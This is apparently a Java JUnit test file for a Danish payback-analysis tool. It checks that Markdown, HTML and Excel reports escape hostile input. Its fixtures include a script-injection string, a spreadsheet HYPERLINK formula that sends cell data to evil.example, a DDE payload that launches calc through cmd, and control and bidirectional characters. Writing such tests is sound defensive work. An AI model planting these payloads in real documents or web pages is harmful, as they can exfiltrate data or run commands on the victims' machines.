package dk.payback.format;

import static org.assertj.core.api.Assertions.assertThat;

import dk.payback.calc.Analysis;
import dk.payback.calc.Discounting;
import dk.payback.calc.Scenario;
import dk.payback.check.CheckReport;
import dk.payback.check.Checker;
import dk.payback.model.Amounts;
import dk.payback.model.Area;
import dk.payback.model.CaseSet;
import dk.payback.model.Line;
import dk.payback.model.Origin;
import dk.payback.model.Portfolio;
import dk.payback.model.PortfolioRow;
import dk.payback.model.Proposal;
import dk.payback.model.ProposalType;
import dk.payback.model.Risk;
import dk.payback.model.SourceRef;
import dk.payback.model.Stated;
import dk.payback.model.SummaryOnly;
import dk.payback.view.Document;
import dk.payback.view.Documents;
import dk.payback.view.Lang;
import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Hostile texts in every place a case file can put text (titles, IDs, lines, fund, source, the
 * reason for overview figures only, file names) through every view in Markdown, HTML and Excel:
 * none may open markup, links or HTML, break a table row, become a formula, hide itself or break
 * the workbook.
 */
class DocumentFormatsEscapingTest {

  static final String MARKUP =
      "*fed* _k_ `kode` [link](http://evil.example) ![x](y) <b>b</b> # ~s~ \\ ende";
  static final String PIPE = "a | b \\| c";
  static final String TD = "</td><script>alert(1)</script>\"'";
  static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Klik\")";
  static final String DDE = "@SUM(1+1)*cmd|' /C calc'!A0";
  static final String CONTROL = "nul\u0000esc\u001b[2Jbel\u0007vt\u000b\uFFFE lone\uD800 end";
  static final String RLO = "abc\u202Edef";
  static final List<String> FORMULA_LIKE = List.of(HYPERLINK, DDE, "+1+1", "-2+3", "\tTAB", "\rCR");

  /** Every text a case can hold, in one small portfolio. */
  static CaseSet cases() {
    String file = "x" + TD + RLO + ".yaml";
    Proposal first =
        new Proposal(
            "XX01",
            ProposalType.INVESTMENT,
            MARKUP + " " + PIPE + " " + TD,
            null,
            DDE,
            Risk.HIGH,
            new SourceRef(HYPERLINK, 3),
            List.of(2018, 2019, 2020),
            List.of(
                new Line(
                    PIPE + "\n" + RLO, Area.SERVICE, Amounts.of(Map.of(2019, -100L, 2020, -100L))),
                new Line(HYPERLINK, Area.SERVICE, Amounts.of(Map.of(2020, -10L)))),
            List.of(
                new Line(CONTROL, Area.CAPITAL, Amounts.of(Map.of(2018, 150L))),
                new Line(DDE, null, Amounts.of(Map.of(2018, 1L)))),
            // Stated figures that differ from the lines, for findings and footnotes.
            new Stated(Amounts.of(Map.of(2019, -99L)), null, null, 9),
            null,
            null,
            List.of(),
            Origin.ofFile(file));
    Proposal hostileId =
        new Proposal(
            "=1|<i>" + RLO,
            ProposalType.INNOVATION,
            TD,
            null,
            null,
            null,
            null,
            List.of(2018, 2019),
            List.of(),
            List.of(new Line("+1+1", Area.SERVICE, Amounts.of(Map.of(2018, 5L)))),
            Stated.none(),
            null,
            null,
            List.of(),
            Origin.ofFile(file));
    Proposal summaryOnly =
        new Proposal(
            "XX03",
            ProposalType.INVESTMENT,
            "-2+3",
            null,
            null,
            null,
            null,
            List.of(2018, 2019),
            List.of(),
            List.of(),
            Stated.none(),
            new SummaryOnly("\tTAB " + MARKUP + " \rCR", 20, Amounts.of(Map.of(2019, -30L))),
            null,
            List.of(),
            Origin.ofFile(file));
    Portfolio overview =
        new Portfolio(
            HYPERLINK + " " + MARKUP + " " + CONTROL,
            new SourceRef(DDE, 1),
            2018,
            2020,
            List.of(2019, 2020),
            List.of(TD),
            List.of(
                new PortfolioRow(1, "XX01", 3, 151, Amounts.of(Map.of(2019, -100L, 2020, -110L))),
                new PortfolioRow(2, "XX03", null, 20, Amounts.of(Map.of(2019, -30L))),
                new PortfolioRow(3, "<MISSING>|" + RLO, null, 7, Amounts.of(Map.of()))),
            null,
            null,
            List.of(),
            Origin.ofFile("oversigt" + PIPE + ".yaml"));
    return new CaseSet(List.of(first, hostileId, summaryOnly), overview);
  }

  static Stream<Arguments> documents() {
    CaseSet cases = cases();
    Analysis a = Analysis.of(cases);
    CheckReport checks = Checker.check(a, 0);
    Discounting d = Discounting.DEFAULT;
    List<Arguments> all = new ArrayList<>();
    for (Lang lang : Lang.values()) {
      all.add(Arguments.of("report " + lang, Documents.report(a, Scenario.BASE, d, checks, lang)));
      all.add(
          Arguments.of(
              "report under a scenario " + lang,
              Documents.report(a, Scenario.delayed(1), d, checks, lang)));
      all.add(Arguments.of("summary " + lang, Documents.summary(a, Scenario.BASE, null, lang)));
      all.add(
          Arguments.of(
              "show " + lang, Documents.show(a, cases.proposals(), Scenario.BASE, d, lang)));
      all.add(
          Arguments.of(
              "sensitivity " + lang, Documents.sensitivity(a, cases.proposals(), d, lang)));
      all.add(Arguments.of("check " + lang, Documents.check(checks, true, lang)));
    }
    return all.stream();
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("documents")
  void markdownOpensNoMarkupAndKeepsEveryTableRowWhole(String name, Document document) {
    assertThat(document.views()).isNotEmpty();
    String md = new MarkdownFormat().text(document);
    assertThat(md)
        .doesNotContain(
            "*fed*", "_k_", "`kode`", "[link]", "<b>", "<script>", "</td>", "<i>", "~s~");
    assertThat(md).doesNotContain("\u202E", "\u0000", "\u001b", "\u0007", "\u000b", "\r");
    // Only our own markup opens: every '<', '[', '`' and '_' from a text is escaped.
    assertThat(Pattern.compile("(?<!\\\\)[<\\[`_]").matcher(md.replace("\\\\", "")).find())
        .as(md)
        .isFalse();
    int columns = -1;
    for (String line : md.split("\n", -1)) {
      if (!line.startsWith("|")) {
        columns = -1;
        continue;
      }
      int cells = unescapedPipes(line);
      if (columns < 0) {
        columns = cells;
      }
      assertThat(cells).as("a row with as many cells as its header: " + line).isEqualTo(columns);
    }
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("documents")
  void htmlEscapesEveryTextAndAttribute(String name, Document document) {
    String html = new HtmlFormat().text(document);
    assertThat(html).doesNotContain("<script", "</td><script", "<b>", "<i>", "\"'");
    assertThat(html).doesNotContain("\u202E", "\u0000", "\u001b", "\u0007", "\u000b", "\r");
    // Every tag is one of ours.
    Matcher tags = Pattern.compile("</?([a-zA-Z0-9]+)").matcher(html);
    while (tags.find()) {
      assertThat(tags.group(1))
          .isIn(
              "html",
              "head",
              "meta",
              "title",
              "style",
              "body",
              "h1",
              "h2",
              "h3",
              "p",
              "strong",
              "section",
              "table",
              "thead",
              "tbody",
              "tr",
              "th",
              "td",
              "a",
              "div",
              "figure",
              "figcaption",
              "svg",
              "line",
              "text",
              "polyline",
              "circle",
              "ul",
              "li");
    }
    // Every attribute's value is whole: no quote from a text ends it early.
    Matcher attributes = Pattern.compile(" ([a-z-]+)=\"([^\"]*)\"").matcher(html);
    while (attributes.find()) {
      assertThat(attributes.group(2)).doesNotContain("<", ">", "'");
      if (attributes.group(1).equals("href")) {
        assertThat(attributes.group(2)).matches("#p-[A-Za-z0-9_-]+");
      }
    }
    if (name.startsWith("report") || name.startsWith("show")) {
      // The SVG's title and aria-label carry the hostile ID, escaped.
      assertThat(html)
          .contains("aria-label=\"" + chartTitle(document) + " =1|&lt;i&gt;abc\\u202Edef\">");
    }
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("documents")
  void workbookHoldsEveryTextAsAStringAndStaysWellFormed(String name, Document document)
      throws Exception {
    byte[] xlsx = new XlsxFormat().render(document);
    Map<String, String> xml = unzip(xlsx);
    for (Map.Entry<String, String> e : xml.entrySet()) {
      if (e.getKey().endsWith(".xml")) {
        // Well-formed XML 1.0, whatever the texts held.
        javax.xml.parsers.DocumentBuilderFactory.newInstance()
            .newDocumentBuilder()
            .parse(new ByteArrayInputStream(e.getValue().getBytes(StandardCharsets.UTF_8)));
      }
    }
    Map<String, List<XlsxText.Cell>> sheets = XlsxText.sheets(xlsx);
    List<XlsxText.Cell> cells = sheets.values().stream().flatMap(List::stream).toList();
    for (XlsxText.Cell c : cells) {
      if (c.isFormula()) {
        // The hostile sheet name may be in a formula, but only as the quoted name of its sheet.
        assertThat(XlsxText.isOwnFormula(c.formula(), sheets.keySet())).as(c.formula()).isTrue();
      }
      if (FORMULA_LIKE.stream().anyMatch(f -> c.value().contains(f))) {
        assertThat(c.type()).as(c.ref() + " " + c.value()).isEqualTo("s");
      }
    }
    if (name.startsWith("show") || name.startsWith("report")) {
      assertThat(cells)
          .anySatisfy(
              c -> {
                assertThat(c.value()).isEqualTo(HYPERLINK);
                assertThat(c.type()).isEqualTo("s");
              });
      assertThat(cells).anySatisfy(c -> assertThat(c.value()).isEqualTo(DDE));
      assertThat(cells)
          .anySatisfy(
              c ->
                  assertThat(c.value())
                      .startsWith("nul\uFFFDesc\uFFFD[2Jbel\uFFFDvt\uFFFD\uFFFD lone\uFFFD end"));
      assertThat(sheets.keySet()).contains("=1|<i>abc_def");
    }
  }

  private static String chartTitle(Document d) {
    return d.lang() == Lang.DA ? "Akkumuleret økonomisk påvirkning," : "Cumulative net impact,";
  }

  /** The pipes that end cells: those not escaped by an odd number of backslashes. */
  private static int unescapedPipes(String line) {
    int n = 0;
    int backslashes = 0;
    for (char c : line.toCharArray()) {
      if (c == '|' && backslashes % 2 == 0) {
        n++;
      }
      backslashes = c == '\\' ? backslashes + 1 : 0;
    }
    return n;
  }

  private static Map<String, String> unzip(byte[] zip) throws Exception {
    Map<String, String> files = new HashMap<>();
    try (ZipInputStream in = new ZipInputStream(new ByteArrayInputStream(zip))) {
      for (ZipEntry e = in.getNextEntry(); e != null; e = in.getNextEntry()) {
        files.put(e.getName(), new String(in.readAllBytes(), StandardCharsets.UTF_8));
      }
    }
    return files;
  }
}
